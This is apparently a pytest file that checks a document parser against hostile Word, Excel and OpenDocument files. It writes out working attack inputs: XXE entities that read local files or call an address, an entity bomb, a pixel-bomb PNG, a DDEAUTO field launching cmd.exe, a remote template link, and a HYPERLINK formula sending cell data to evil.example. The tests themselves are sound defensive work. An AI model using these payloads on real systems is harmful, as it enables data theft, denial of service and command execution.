"""Documents that were made to harm whoever opens them, each made here: none fetches, inflates or runs anything."""

from __future__ import annotations

import io
import resource
import struct
import subprocess
import sys
import zipfile
import zlib
from collections.abc import Mapping
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from parsers.document import read_document
from parsers.formats.sheet import MOST_ROWS
from parsers.layouts import Layouts, load_layouts
from parsers.model import Extraction, Outcome
from tests.parsers import opendocuments
from tests.parsers.papers import docx, p, table, tc, zipped
from tests.parsers.printed import pdf, picture, words

ROOT = Path(__file__).parents[2]
DAY = date(2026, 3, 30)
PLACE, SECRET = "PLACEHOLDER", "the-machine-s-own-secret"


@pytest.fixture(scope="module")
def layouts() -> Layouts:
    return load_layouts(ROOT / "templates")


def workbook(*rows: tuple[object, ...]) -> bytes:
    """A workbook of those rows."""
    book, output = openpyxl.Workbook(), io.BytesIO()
    for row in rows:
        book.active.append(row)
    book.save(output)
    return output.getvalue()


def replaced(package: bytes, part: str, change: Mapping[bytes, bytes], head: bytes = b"", encoding: str = "") -> bytes:
    """The package with one part changed: a head put before its root element, words replaced, perhaps in another encoding."""
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    body = parts[part]
    body = body.partition(b"?>")[2] if body.startswith(b"<?xml") else body
    for old, new in change.items():
        assert old in body, (part, old)
        body = body.replace(old, new)
    parts[part] = head + body
    if encoding:
        parts[part] = (f'<?xml version="1.0" encoding="{encoding}"?>' + parts[part].decode()).encode(encoding)
    return zipped(parts)


FORM = docx(p("Case reference") + table(["Name of child", PLACE]))
BOOK = workbook(("Date", "Event"), (date(2026, 3, 4), PLACE))
TEXT = opendocuments.opened("text", opendocuments.p(PLACE))
SHEET = opendocuments.opened("spreadsheet", opendocuments.table(opendocuments.row("Date", PLACE)))
PARTS = [
    pytest.param(FORM, "word/document.xml", PLACE.encode(), "", id="the body of a Word document"),
    pytest.param(FORM, "word/document.xml", PLACE.encode(), "utf-16", id="the same in UTF-16, which no search for bytes finds"),
    pytest.param(FORM, "word/styles.xml", b"</w:styles>", "", id="its styles"),
    pytest.param(FORM, "word/_rels/document.xml.rels", b"</Relationships>", "", id="its relationships"),
    pytest.param(FORM, "[Content_Types].xml", b"</Types>", "", id="its content types"),
    pytest.param(BOOK, "xl/worksheets/sheet1.xml", PLACE.encode(), "", id="the words of a workbook"),
    pytest.param(BOOK, "xl/styles.xml", b"</styleSheet>", "", id="its styles, which another parser reads"),
    pytest.param(TEXT, "content.xml", PLACE.encode(), "", id="an OpenDocument text"),
    pytest.param(SHEET, "content.xml", PLACE.encode(), "", id="an OpenDocument sheet"),
]
DECLARED = {
    "a file of this machine": '<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}">]>',
    "a file by a parameter entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "file://{secret}"> %p; <!ENTITY e "x">]>',
    "an address": '<!DOCTYPE x [<!ENTITY e SYSTEM "http://127.0.0.1:9/x">]>',
    "a bomb of entities": '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in zip("abcdefgh", "bcdefghe", strict=True) if new != old)
    + "]>",
    "a declaration that does nothing": '<!DOCTYPE x SYSTEM "x.dtd">',
}


@pytest.mark.parametrize("declared", DECLARED.values(), ids=DECLARED.keys())
@pytest.mark.parametrize(("package", "part", "place", "encoding"), PARTS)
def test_no_part_may_declare_anything_and_no_entity_is_ever_filled_in(
    layouts: Layouts, tmp_path: Path, package: bytes, part: str, place: bytes, encoding: str, declared: str
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    head = declared.replace("{secret}", str(secret)).encode()
    entity = b"" if b"x.dtd" in head else b"&e;"
    filled = place.replace(b"</", entity + b"</", 1) if place.startswith(b"</") else entity + place
    read = read_document(replaced(package, part, {place: filled}, head, encoding), received=DAY, layouts=layouts)
    assert (read.outcome, [each.code for each in read.problems]) == (Outcome.UNREADABLE, ["unsafe_archive"])
    assert SECRET not in repr(read)


@pytest.mark.parametrize("package", [FORM, BOOK, TEXT, SHEET], ids=["Word", "Excel", "OpenDocument text", "OpenDocument sheet"])
def test_the_same_documents_without_a_declaration_are_read(layouts: Layouts, package: bytes) -> None:
    assert read_document(package, received=DAY, layouts=layouts).outcome is Outcome.READ


def bomb_of_pixels() -> bytes:
    """A PNG of 60,000 by 60,000 pixels that says so in a few bytes: decoded, it is 10 GB."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    size = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", size) + chunk(b"IDAT", zlib.compress(bytes(60_000))) + chunk(b"IEND", b"")


ASKED = ("Case reference", "Name of child", "Summary of involvement", "Good practice", "Learning")
BLIP = '<a:blip xmlns:a="urn:y" r:embed="rId9" xmlns:r="urn:z"/>'
DRAWING = f'<w:p><w:r><w:drawing><wp:inline xmlns:wp="urn:x">{BLIP}</wp:inline></w:drawing></w:r></w:p>'
PICTURED = docx(p("Case reference") + DRAWING, extra={"word/media/image1.png": bomb_of_pixels()})
NO_PICTURES = """
import sys
sys.modules["PIL"] = None
from datetime import date
from pathlib import Path
from parsers.document import read_document
from parsers.formats.opening import load
from parsers.layouts import load_layouts
load()
layouts = load_layouts(Path("templates"))
for data in sys.stdin.buffer.read().split(b"--next--"):
    print(read_document(data, received=date(2026, 3, 30), layouts=layouts).outcome.value)
"""


def test_no_picture_is_decoded_wherever_it_stands() -> None:
    files = [PICTURED, bomb_of_pixels(), pdf(words(50, 60, "typed") + picture())]
    asked = subprocess.run(
        [sys.executable, "-c", NO_PICTURES], input=b"--next--".join(files), capture_output=True, cwd=ROOT, check=True, timeout=60
    )
    assert asked.stdout.decode().split() == ["read", "read", "read"], "all of it without what decodes pictures"


def test_a_document_with_a_remote_template_a_dde_field_and_an_embedded_object_is_read_for_its_words(layouts: Layouts) -> None:
    links = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type='
    remote = links + '"x/attachedTemplate" Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/></Relationships>'
    program = 'w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"'
    dde = f"<w:p><w:fldSimple {program}><w:r><w:t>!Unexpected end</w:t></w:r></w:fldSimple></w:p>"
    hostile = docx(
        table(*([label, "Zebulon Quill"] for label in ASKED)) + dde,
        extra={
            "word/_rels/settings.xml.rels": remote.encode(),
            "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 600,
            "word/activeX/activeX1.bin": b"\0" * 64,
        },
    )
    read = read_document(hostile, received=DAY, layouts=layouts)
    assert read.outcome is Outcome.READ
    assert read.value("child_name") == "Zebulon Quill"
    assert "cmd.exe" not in repr(read)


def test_a_formula_in_a_return_is_never_computed_and_stays_words(layouts: Layouts) -> None:
    rows = (("Date", "Event"), (date(2026, 3, 4), '=HYPERLINK("http://evil.example/"&B1,"seen")'), (date(2026, 3, 5), "Visited."))
    read = read_document(workbook(*rows), received=DAY, layouts=layouts)
    assert read.outcome is Outcome.READ
    assert "evil.example" not in repr(read.entries)
    assert [each.code for each in read.problems if each.code == "formula_without_value"], "staff are told, and nothing is guessed"


SHEET_XML = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{}</worksheet>'
FAR = '<dimension ref="A1:XFD1048576"/><sheetData><row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c></row>'
MERGED = (
    '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>all</t></is></c></row></sheetData>'
    '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
)
MANY = "<sheetData>" + "".join(
    f'<row r="{number}"><c r="A{number}"><v>{number}</v></c></row>' for number in range(1, MOST_ROWS + 2_000)
)


@pytest.mark.parametrize(
    "sheet",
    [
        pytest.param(FAR + "</sheetData>", id="one cell at the far corner"),
        pytest.param(MERGED, id="one cell merged over the whole sheet"),
        pytest.param(MANY + "</sheetData>", id="more rows than a chronology has"),
    ],
)
def test_a_sheet_larger_than_any_is_read_within_bounds(layouts: Layouts, sheet: str) -> None:
    with zipfile.ZipFile(io.BytesIO(BOOK)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts["xl/worksheets/sheet1.xml"] = SHEET_XML.format(sheet).encode()
    read = bounded(zipped(parts), layouts)
    assert read.outcome in {Outcome.READ, Outcome.UNREADABLE, Outcome.TOO_LARGE}
    assert len(repr(read)) < 20_000_000


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(table([tc("x", settings='<w:gridSpan w:val="2000000"/>')]), id="a span of two million columns"),
        pytest.param("<w:tbl><w:tr><w:tc>" * 60 + p("deep") + "</w:tc></w:tr></w:tbl>" * 60, id="sixty tables in each other"),
        pytest.param("<w:p/>" * 300_000, id="three hundred thousand empty paragraphs"),
    ],
)  # fmt: skip
def test_a_text_that_is_larger_than_it_looks_is_read_within_bounds(layouts: Layouts, body: str) -> None:
    assert bounded(docx(body), layouts).outcome in {Outcome.READ, Outcome.UNREADABLE, Outcome.TOO_LARGE}


def bounded(data: bytes, layouts: Layouts) -> Extraction:
    """What is read of it in a process that may use as much memory and time as the service allows."""
    used = resource.getrusage(resource.RUSAGE_SELF)
    read = read_document(data, received=DAY, layouts=layouts)
    after = resource.getrusage(resource.RUSAGE_SELF)
    assert after.ru_utime - used.ru_utime < 10, "the limit of one document, in processor time"
    assert after.ru_maxrss < 768 * 1024
    return read
